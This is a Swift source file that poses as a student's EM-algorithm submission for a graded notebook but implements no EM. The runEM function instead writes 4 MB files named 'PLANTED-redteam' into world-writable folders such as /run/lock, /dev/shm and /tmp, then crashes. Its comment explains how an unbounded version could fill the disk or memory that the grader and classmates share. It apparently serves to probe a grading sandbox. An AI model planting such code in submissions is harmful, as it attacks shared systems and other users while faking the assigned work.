import EMKit
import Foundation

/// No EM. Each call leaves files in the world-writable folders it can reach: /run/lock (shared
/// and on disk even with namespaces), and /dev/shm, /tmp, /var/tmp without them. They outlive
/// the call and the grading run; nothing bounds their number (only each file's size, 64 MB),
/// so a few calls can fill the disk (or, in /dev/shm, the memory) that the grader and every
/// classmate's calls need. Kept small here: 2 files of 4 MB per folder per call.
public func runEM(
    data: Matrix, initMeans: Matrix, initCovariances: [Matrix], initWeights: Vector,
    maxiter: Int = 1000, thresh: Double = 1e-4, progress: (String) -> Void = { print($0) }
) -> NotebookEMResult {
    let chunk = Data(count: 4 << 20)
    var planted: [String] = []
    for folder in ["/run/lock", "/dev/shm", "/tmp", "/var/tmp", "/var/lock", "/run/shm"] {
        for _ in 0..<2 {
            let path = "\(folder)/PLANTED-redteam-\(UUID().uuidString)"
            if FileManager.default.createFile(atPath: path, contents: chunk) { planted.append(folder) }
        }
    }
    fatalError("planted files in \(Set(planted).sorted())")
}
